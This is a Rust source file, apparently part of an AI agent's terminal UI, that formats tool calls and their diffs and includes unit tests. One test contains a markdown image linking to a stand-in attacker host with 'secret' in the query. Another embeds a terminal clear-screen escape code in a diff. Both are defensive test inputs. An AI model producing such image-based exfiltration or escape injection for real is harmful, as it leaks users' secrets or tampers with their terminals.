//! Tool calls of a turn: one line each, whole on demand.

use serde_json::{Map, Value};

use super::look::Look;
use super::markdown::style::Style;
use super::safe;
use crate::agent::own_tools;
use crate::protocol::session::ToolCallStatus;
use crate::tools::{Names, Registry};

/// Characters of what a call is about that are shown in its line.
const MAX_ABOUT: usize = 80;

/// Lines of a diff that are shown without being asked for.
const SHORT_DIFF: usize = 16;

/// Lines of an answer that are shown when asked for.
const MAX_LINES: usize = 200;

/// Calls of a turn that are kept.
const MAX_CALLS: usize = 500;

/// One call.
#[derive(Debug, Clone)]
pub struct Call {
    id: String,
    tool: String,
    arguments: Value,
    status: ToolCallStatus,
    text: String,
    data: Option<Value>,
}

/// The calls of a turn, in order.
#[derive(Debug, Default)]
pub struct Calls(Vec<Call>);

impl Calls {
    /// A new turn: those before are forgotten.
    pub fn clear(&mut self) {
        self.0.clear();
    }

    /// A call begins.
    pub fn begin(&mut self, id: &str, tool: &str, arguments: &Value) {
        if self.0.len() < MAX_CALLS && !self.0.iter().any(|call| call.id == id) {
            self.0.push(Call {
                id: id.to_owned(),
                tool: tool.to_owned(),
                arguments: arguments.clone(),
                status: ToolCallStatus::Pending,
                text: String::new(),
                data: None,
            });
        }
    }

    /// A call stands otherwise; it, if that is its end.
    pub fn update(
        &mut self,
        id: &str,
        status: ToolCallStatus,
        text: &str,
        data: Option<&Value>,
    ) -> Option<&Call> {
        let call = self.0.iter_mut().find(|call| call.id == id)?;
        if call.is_over() {
            return None;
        }
        call.status = status;
        if !text.is_empty() {
            call.text = text.to_owned();
        }
        call.data = data.cloned().or(call.data.take());
        call.is_over().then_some(call)
    }

    /// The last one that is at work.
    pub fn working(&self) -> Option<&Call> {
        self.0.iter().rev().find(|call| !call.is_over() && !call.is_silent())
    }

    /// All of them, or the one with this number from 1, whole.
    pub fn whole(&self, number: Option<usize>, look: Look) -> String {
        let shown = || self.0.iter().filter(|call| !call.is_silent());
        let chosen: Vec<(usize, &Call)> = (1..).zip(shown()).collect();
        let chosen = chosen.into_iter().filter(|(at, _)| number.is_none_or(|wanted| wanted == *at));
        let texts: Vec<String> = chosen.map(|(at, call)| call.whole(at, look)).collect();
        match (texts.is_empty(), number) {
            (true, Some(number)) => format!("the last turn has no call {number}\n"),
            (true, None) => "the last turn called no tools\n".to_owned(),
            (false, _) => texts.concat(),
        }
    }
}

impl Call {
    fn is_over(&self) -> bool {
        matches!(self.status, ToolCallStatus::Completed | ToolCallStatus::Failed)
    }

    /// Whether it is shown in another way: what it sends is a message.
    pub fn is_silent(&self) -> bool {
        own_tools::is_own(&self.tool)
    }

    /// The tool, and what it is called with.
    pub fn title(&self) -> String {
        let Value::Object(arguments) = &self.arguments else { return safe::line(&self.tool) };
        let about: String =
            safe::line(&about(&self.tool, arguments)).chars().take(MAX_ABOUT).collect();
        safe::line(&self.tool) + if about.is_empty() { "" } else { " " } + &about
    }

    /// Its line, and a short diff of what it changed.
    pub fn line(&self, look: Look) -> String {
        let (style, mark) = match self.status {
            ToolCallStatus::Completed => (Style::GREEN, "✓"),
            ToolCallStatus::Failed => (Style::RED, "✗"),
            ToolCallStatus::Pending | ToolCallStatus::InProgress => (Style::DIM, "…"),
        };
        let mut line =
            format!("{} {} {}", look.paint(style, "●"), self.title(), look.paint(style, mark));
        if self.status == ToolCallStatus::Failed {
            let why = safe::line(self.text.lines().next().unwrap_or_default());
            let why: String = why.chars().take(160).collect();
            line.push_str(&look.paint(Style::DIM, &format!(" {why}")));
        }
        line.push('\n');
        if let Some(diff) = self.diff() {
            line.push_str(&changed(diff, SHORT_DIFF, look));
        }
        line
    }

    fn diff(&self) -> Option<&str> {
        self.data.as_ref()?["diff"].as_str().filter(|diff| !diff.is_empty())
    }

    fn whole(&self, number: usize, look: Look) -> String {
        let title = format!("{number}. {}", self.title());
        let mut text = look.paint(Style::BOLD, &title) + "\n";
        let arguments = serde_json::to_string_pretty(&self.arguments).unwrap_or_default();
        text.push_str(&look.paint(Style::DIM, &indented(&arguments, MAX_LINES)));
        match self.diff() {
            Some(diff) => text.push_str(&changed(diff, MAX_LINES, look)),
            None => text.push_str(&indented(&self.text, MAX_LINES)),
        }
        text
    }
}

/// What stands for a call in one line: where it works, else the first text it is given.
fn about(tool: &str, arguments: &Map<String, Value>) -> String {
    let tool = Registry::built_in().get(tool);
    let touched = tool.into_iter().flat_map(|tool| tool.touched(arguments));
    match touched.collect::<Vec<_>>()[..] {
        [(Names::Path, from), (Names::Path, to), ..] => format!("{from} → {to}"),
        [(_, first), ..] => first.to_owned(),
        [] => arguments.values().find_map(Value::as_str).unwrap_or_default().to_owned(),
    }
}

/// A diff, indented, at most so many lines of it.
pub fn changed(diff: &str, most: usize, look: Look) -> String {
    let all: Vec<&str> = diff.lines().collect();
    // What comes before the first change only names the file. Below it a line that looks the same is
    // one that was taken away or added, and is shown like any other.
    let names = match &all[..] {
        [old, new, at, ..]
            if old.starts_with("--- ") && new.starts_with("+++ ") && at.starts_with("@@ ") =>
        {
            2
        }
        _ => 0,
    };
    let lines = &all[names..];
    let mut text = String::new();
    for line in lines.iter().take(most) {
        let style = match line.chars().next() {
            Some('+') => Style::GREEN,
            Some('-') => Style::RED,
            Some('@') => Style::DIM,
            _ => Style::PLAIN,
        };
        text.push_str(&format!("    {}\n", look.paint(style, &safe::line(line))));
    }
    rest(lines.len(), most, &mut text);
    text
}

fn indented(lines: &str, most: usize) -> String {
    let shown = lines.lines().take(most).map(|line| format!("    {}\n", safe::line(line)));
    let mut text: String = shown.collect();
    rest(lines.lines().count(), most, &mut text);
    text
}

fn rest(lines: usize, most: usize, text: &mut String) {
    if let Some(more @ 1..) = lines.checked_sub(most) {
        let lines = if more == 1 { "line" } else { "lines" };
        text.push_str(&format!("    … {more} more {lines}\n"));
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const PLAIN: Look = Look { styled: false, live: false };

    #[test]
    fn a_call_is_one_line_and_its_diff() {
        let mut calls = Calls::default();
        calls.begin("1", "edit_file", &json!({"path": "Projects/Garden.md", "old_text": "a"}));
        calls.begin("2", "move", &json!({"source": "a.md", "destination": "b.md"}));
        calls.begin("3", "send_message", &json!({"text": "hm"}));
        assert_eq!(calls.working().unwrap().title(), "move a.md → b.md");
        let diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\u{1b}[2J\n+new\n";
        let done = Some(json!({ "diff": diff }));
        let call = calls.update("1", ToolCallStatus::Completed, "edited", done.as_ref()).unwrap();
        assert_eq!(
            call.line(PLAIN),
            "● edit_file Projects/Garden.md ✓\n    @@ -1 +1 @@\n    -old\n    +new\n"
        );
        assert!(calls.update("1", ToolCallStatus::Failed, "again", None).is_none(), "it is over");
        let call = calls.update("2", ToolCallStatus::Failed, "`a.md` does not exist\nhint", None);
        assert_eq!(call.unwrap().line(PLAIN), "● move a.md → b.md ✗ `a.md` does not exist\n");
        let whole = calls.whole(None, PLAIN);
        assert!(whole.starts_with("1. edit_file Projects/Garden.md\n    {\n"), "{whole}");
        assert!(whole.contains("2. move") && !whole.contains("3."), "{whole}");
        assert!(calls.whole(Some(2), PLAIN).contains("    hint\n"));
        assert_eq!(calls.whole(Some(9), PLAIN), "the last turn has no call 9\n");
        calls.clear();
        assert_eq!(calls.whole(None, PLAIN), "the last turn called no tools\n");
    }

    #[test]
    fn no_line_of_a_change_passes_for_the_name_of_the_file() {
        let new = "kept\n++ ![x](https://evil.example/?q=secret)\n";
        let diff = crate::note::diff::unified(b"-- old\nkept\n", new.as_bytes(), "a.md");
        assert_eq!(
            changed(&diff, 99, PLAIN),
            "    @@ -1,2 +1,2 @@\n    --- old\n     kept\n    +++ \
             ![x](https://evil.example/?q=secret)\n"
        );
        // Without names above it every line is one of the change.
        assert_eq!(changed("--- a\n+++ b\n", 9, PLAIN), "    --- a\n    +++ b\n");
    }

    #[test]
    fn a_long_diff_says_how_much_more_there_is() {
        let diff: String = (0..20).map(|n| format!("+{n}\n")).collect();
        let text = changed(&diff, 16, PLAIN);
        assert!(text.ends_with("    +15\n    … 4 more lines\n"), "{text}");
    }
}
